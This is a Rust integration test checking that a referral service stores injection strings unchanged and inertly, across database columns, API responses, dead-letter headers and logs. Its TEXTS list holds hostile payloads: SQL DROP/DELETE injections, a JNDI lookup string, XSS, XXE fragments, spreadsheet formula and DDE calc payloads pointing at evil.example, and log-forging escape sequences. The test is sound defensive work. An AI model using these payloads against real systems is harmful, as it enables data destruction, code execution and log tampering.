//! Injection (fault 25): whatever is written into a text, SQL, markup, a formula, a line of the log, it is a
//! text and nothing else: kept to the byte, shown as it is, and without any effect.
use std::sync::Arc;

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use referral::broker::{Outgoing, topology};
use serde_json::{Value, json};

use crate::harness::{Bed, Ingress, PATIENCE, eventually, messages::SINGLE, on_every_database};

on_every_database!(what_is_written_into_any_text_is_kept_as_it_is_and_does_nothing);

const CODE: &str = "b4b9e071006f409d8e6d";
/// A line that the log would have, if a text could write one.
const FORGED: &str = "2026-01-01T00:00:00.000000Z  INFO forged";
const TEXTS: [&str; 12] = [
    "'; DROP TABLE click; --",
    "\\'; DELETE FROM domain; --",
    "\" OR \"1\"=\"1",
    "{?} {rows} $1 ?1 :name %s %n ${jndi:ldap://x/y}",
    "</item><item><![CDATA[x]]>&xxe;<!--",
    "<script>alert(1)</script>\" onload=\"alert(1)",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\n2026-01-01T00:00:00.000000Z  INFO forged",
    "x\r\n2026-01-01T00:00:00.000000Z  INFO forged\r\n",
    "\u{1b}[2K\u{1b}[1A2026-01-01T00:00:00.000000Z  INFO forged",
    "\u{202e}\u{feff}\u{2028}2026-01-01T00:00:00.000000Z  INFO forged",
];

fn event(number: usize, text: &str, kind: &str, domain: &str, data: &Value) -> Outgoing {
    let event = json!({
        "specversion": "1.0", "id": format!("{number}-{text}"), "source": format!("/{text}"),
        "type": format!("referral.{kind}.v1"), "time": "2026-11-22T10:00:00Z", "domain": domain,
        "traceparent": text, "data": data,
    });
    Outgoing::event(kind, SINGLE, event.to_string())
}

async fn column(bed: &Bed, select: &str) -> Vec<String> {
    let rows = bed.store.all(select, None, Vec::new()).await.unwrap();
    let mut texts: Vec<String> = rows.iter().map(|row| row.text("t").unwrap()).collect();
    texts.sort();
    texts
}

async fn what_is_written_into_any_text_is_kept_as_it_is_and_does_nothing(bed: Arc<Bed>) {
    let plan = bed.plan("ingress").set("LOG", "debug");
    let ingress = Ingress::of(&bed, bed.start_planned(plan).await).await;
    let email = json!({"email": "a@example.com"});
    assert_eq!(ingress.put(&format!("/v1/referral/{CODE}"), email).await.0, 201);
    let mut expected: Vec<String> = TEXTS.map(str::to_owned).to_vec();
    expected.sort();
    for text in TEXTS {
        let programme = json!({"name": text, "credit_value": 1, "target_value": 2});
        let (status, answer) = ingress.post("/program/", programme).await;
        assert_eq!((status, answer["name"].as_str()), (201, Some(text)), "{answer}");
        // Each of these is looked for, and is not there.
        for path in ["/statement/", "/v1/referral?code=", "/v1/events/"] {
            let escaped: String = utf8_percent_encode(text, NON_ALPHANUMERIC).to_string();
            let (status, answer) = ingress.get(&format!("{path}{escaped}")).await;
            assert!((200..500).contains(&status), "{path}{text}: {status} {answer}");
            assert!(status != 200 || answer["items"] == json!([]), "{path}{text}: {answer}");
        }
    }
    let workers = bed.start_workers(1, &[("LOG", "debug")]).await;
    let mut messages = Vec::new();
    for (number, text) in TEXTS.into_iter().enumerate() {
        let told =
            json!({"code": CODE, "user_agent": text, "referrer": text, "query_string": text});
        messages.push(event(number, text, "click", "default", &told));
        // Bad ones, so that each text is in what is said of it.
        messages.push(event(number, text, "click", text, &json!({"code": CODE})));
        messages.push(event(number, text, "payment", "default", &json!({"user_hash": text})));
        let odd = json!({"user_hash": "u", "amount": text, "currency": text});
        messages.push(event(number, text, "payment", "default", &odd));
        messages.push(event(
            number,
            text,
            "signup",
            "default",
            &json!({"user_hash": "u", text: 1}),
        ));
    }
    bed.publish(messages).await;
    eventually("all is kept", PATIENCE, async || {
        match column(&bed, "SELECT query_string AS t FROM click").await.len() {
            n if n == TEXTS.len() => Ok(()),
            n => Err(format!("{n} of {}", TEXTS.len())),
        }
    })
    .await;
    let logs: Vec<_> = workers.iter().map(|worker| worker.log().clone()).collect();
    bed.drain(workers).await;
    for select in [
        "SELECT user_agent AS t FROM click",
        "SELECT referrer AS t FROM click",
        "SELECT query_string AS t FROM click",
        "SELECT name AS t FROM programme",
    ] {
        assert_eq!(column(&bed, select).await, expected, "{select}");
    }
    let (_, programmes) = ingress.get("/program/").await;
    for text in TEXTS {
        assert!(programmes.to_string().contains(&json!(text).to_string()), "{text}");
    }
    assert_eq!(column(&bed, "SELECT name AS t FROM domain").await, ["default"]);
    let parked = bed.broker.look_into(topology::DAILY_RECORDS_DEAD).await;
    assert!(parked.len() >= TEXTS.len(), "{}", parked.len());
    for parked in parked {
        let detail = parked.header("x-detail");
        assert!(!detail.contains(['\n', '\r', '\u{1b}']), "{detail:?}");
    }
    for log in logs.iter().chain([ingress.program.log()]) {
        let log = std::fs::read_to_string(log).unwrap();
        assert!(log.lines().count() > 3);
        for line in log.split(['\n', '\r']).filter(|line| !line.is_empty()) {
            assert!(!line.starts_with(FORGED) && line.starts_with("20"), "{line:?}");
            assert!(!line.contains('\u{1b}'), "{line:?}");
        }
    }
}
